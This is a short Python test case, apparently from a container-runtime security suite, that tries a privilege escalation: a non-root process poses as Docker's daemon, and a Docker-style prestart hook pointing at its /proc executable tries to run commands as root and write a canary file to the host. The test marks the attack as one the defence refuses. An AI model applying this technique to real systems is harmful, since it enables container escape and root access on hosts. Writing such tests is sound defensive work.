"""A process of another user calls itself Docker's daemon, and a hook that is Docker's by its form runs its program as root."""

import os
import subprocess

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("hook")


def attack(t):
    t.allow_network()
    t.sh("mkdir /home/other; cp /bin/dash /home/other/dockerd; chown -R 1000:1000 /home/other")
    daemon = subprocess.Popen(["dockerd", "-c", "read line"], executable="/home/other/dockerd", stdin=subprocess.PIPE,
                              preexec_fn=lambda: os.setuid(1000))
    t.hook("prestart", "/proc/%d/exe" % daemon.pid, "libnetwork-setkey", "-c", "read line; echo %s > /mnt/host/written" % t.canary)
    t.run("true")
    return t.leaked(t.read("/mnt/host/written"))
